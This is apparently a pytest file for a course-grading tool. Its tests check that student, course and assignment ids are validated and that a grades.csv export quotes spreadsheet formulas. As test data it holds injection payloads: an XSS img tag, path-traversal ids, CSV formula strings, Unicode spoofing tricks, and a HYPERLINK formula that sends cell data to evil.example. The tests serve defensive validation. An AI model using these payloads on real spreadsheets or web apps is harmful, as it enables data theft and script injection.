"""Student ids: one grammar at every entry point, and grades.csv that a spreadsheet opens as data."""
from __future__ import annotations

import csv

import pytest

from labsupport.cli import main
from labsupport.grading.exchange_wire import HandInError, check_id
from labsupport.grading.ids import BadStudentId, check_student_id, collisions, spreadsheet_text
from tests.grading.course import Course


@pytest.mark.parametrize("student, words", [
    ("<img src=x onerror=alert(1)>", "markup"),
    ("alice\nbob", "line break"),
    ("alice\r", "line break"),
    ("al\x00ice", "control character"),
    ("=SUM(A1)", "formula"),
    ("=cmd", "formula"),
    ("+1", "formula"),
    ("-rf", "formula"),
    ("@SUM", "formula"),
    ("a" * 65, "65 characters long"),
    ("", "empty"),
    ("../course", "path"),
    (".hidden", "path"),
    ("a/b", "path"),
    ("x\\y", "path"),
    ("ann lee", "holds ' '"),
    ("a,b", "holds ','"),
    ("\u0430lice", "outside ASCII"),                    # a Cyrillic а that reads as alice
    ("alice\u202egnp.exe", "bidirectional control"),     # reads as alice exe.png
    ("ali\u200ece", "bidirectional control"),
    ("ｅve", "outside ASCII"),                         # a full-width letter
])
def test_ids_outside_the_grammar_are_refused_naming_the_id_and_the_rule(student, words):
    with pytest.raises(BadStudentId) as caught:
        check_student_id(student, "here")
    message = str(caught.value)
    assert words in message and "(here)" in message and "1 to 64 characters" in message, message
    assert repr(student[:80])[1:-1][:20] in message or "…" in message


@pytest.mark.parametrize("student", ["alice", "labclass-s01", "ann.lee+2", "s1234567", "_x", "ann@uni.example",
                                     "A" * 64])
def test_plain_ids_pass(student):
    assert check_student_id(student) == student


def test_ids_that_differ_only_in_case_collide():
    assert collisions(["alice", "Alice", "bob", "ALICE", "alice"]) == {
        "alice": ["Alice", "ALICE"], "Alice": ["alice", "ALICE"], "ALICE": ["alice", "Alice"]}
    assert collisions(["alice", "bob"]) == {}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"])
def test_formula_text_becomes_text(text):
    assert spreadsheet_text(text) == "'" + text
    assert spreadsheet_text("alice") == "alice" and spreadsheet_text(-1.5) == -1.5


def test_variant_and_report_refuse_a_bad_id_on_the_command_line(capsys, tmp_path):
    assert main(["variant", "01-endpointslices", "=1+1"]) == 1
    assert "student id '=1+1' (the command line) is refused" in capsys.readouterr().err
    assert main(["variant", "01-endpointslices", "alice\n"]) == 1
    assert "line break" in capsys.readouterr().err
    assert main(["report", "<b>x</b>", "--course", str(tmp_path)]) == 1
    assert "assignment id '<b>x</b>' (the command line) is refused" in capsys.readouterr().err


def test_grades_csv_quotes_what_a_spreadsheet_would_evaluate(tmp_path, monkeypatch):
    """A student id and names that are formulas or hold commas: every row keeps its columns, every formula is
    text (nbgrader's own export wrote `=HYPERLINK(…)` as it is, and a comma shifted the columns)."""
    from nbgrader.api import Gradebook
    course = Course(tmp_path / "course")
    monkeypatch.setenv("PATH", course.env["PATH"])        # the gradebook runs alembic
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with Gradebook(f"sqlite:///{course.root / 'gradebook.db'}") as gb:
        gb.add_student(evil, last_name="Smith, Jr.", first_name="@SUM(1)")
        gb.add_student("alice", last_name="Liddell", first_name="Alice")
        gb.add_assignment("a1")
    run = course.nbgrader("export", "--to", "grades.csv")
    with open(course.root / "grades.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 2 and all(len(row) == 11 and None not in row for row in rows), rows
    by_name = {row["last_name"]: row for row in rows}
    assert by_name["Smith, Jr."]["student_id"] == "'" + evil
    assert by_name["Smith, Jr."]["first_name"] == "'@SUM(1)"
    assert by_name["Liddell"]["student_id"] == "alice" and by_name["Liddell"]["score"] == "0.0"
    assert "is refused" in run.stdout + run.stderr      # the instructor is told which id to look at


@pytest.mark.parametrize("kind, value, words", [
    ("course", "<b>k8s", "course id '<b>k8s' is refused: it holds markup"),
    ("course", "=cmd", "course id '=cmd' is refused: it starts with '='"),
    ("assignment", "../source", "assignment id '../source' is refused: it names a path"),
    ("assignment", "01\nx", "assignment id '01\\nx' is refused: it holds a line break"),
])
def test_the_exchange_names_courses_and_assignments_by_the_same_grammar(kind, value, words):
    with pytest.raises(HandInError) as caught:
        check_id(kind, value)
    assert words in str(caught.value) and "1 to 64 characters" in str(caught.value), str(caught.value)
    assert check_id(kind, "01-endpointslices") == "01-endpointslices"
